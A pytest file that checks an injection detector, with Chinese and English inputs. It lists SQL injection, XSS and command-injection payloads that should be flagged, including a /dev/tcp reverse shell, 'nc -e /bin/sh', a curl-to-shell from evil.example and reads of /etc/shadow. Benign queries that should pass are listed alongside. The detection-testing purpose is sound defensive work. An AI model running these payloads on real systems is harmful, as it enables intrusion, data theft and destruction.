import pytest

from streams.screening.attacks.payload import PAYLOAD

CASES = [
    ("name' OR '1'='1", "SQL_INJECTION"),
    ("x') or 1=1 --", "SQL_INJECTION"),
    ("' union all select user, password from accounts", "SQL_INJECTION"),
    ("/list?id=-1+UNION+SELECT+1,2,3", "SQL_INJECTION"),
    ("'; DROP TABLE users; --", "SQL_INJECTION"),
    ("用户名填 admin'-- 就能登录", "SQL_INJECTION"),
    ("1' and sleep(5)", "SQL_INJECTION"),
    ("EXEC master..xp_cmdshell 'dir'", "SQL_INJECTION"),
    ("' ＯＲ 'a'='a", "SQL_INJECTION"),  # wide forms
    ("<script>alert(1)</script>", "SCRIPT_INJECTION"),
    ("<img src=x onerror=alert(document.cookie)>", "SCRIPT_INJECTION"),
    ("javascript:alert(1)", "SCRIPT_INJECTION"),
    ("file.txt; cat /etc/passwd", "COMMAND_INJECTION"),
    ("$(cat /etc/shadow)", "COMMAND_INJECTION"),
    ("x && rm -rf / ", "COMMAND_INJECTION"),
    ("bash -i >& /dev/tcp/10.0.0.1/4444", "COMMAND_INJECTION"),
    ("nc -e /bin/sh", "COMMAND_INJECTION"),
    ("name; curl http://evil.example/x.sh | sh", "COMMAND_INJECTION"),
    # what people ask every day
    ("how do I write SELECT * FROM users WHERE id = 1?", None),
    ("怎么写SQL查询：SELECT name FROM users WHERE age > 18 OR city = '北京'", None),
    ("SELECT a FROM t UNION SELECT b FROM u", None),
    ("what does DROP TABLE users; do?", None),
    ("How do I kill a process? kill -9 1234", None),
    ("what does rm -rf / do, and why is it dangerous?", None),
    ("what is a <script> tag for?", None),
    ("ls -l | grep txt && echo done", None),
    ("it's 'this' or that = those", None),
    ("如何防止暴力破解和SQL注入攻击？", None),
    ("SELECT * FROM t WHERE a = 'x' AND b = 'y'", None),
    ("如果 x = 'a' or y = 'b' 就返回", None),
]


@pytest.mark.parametrize(("text", "entity"), CASES)
def test_payloads(text: str, entity: str | None) -> None:
    assert {each.entity for each in PAYLOAD.find(text)} == ({entity} if entity else set())
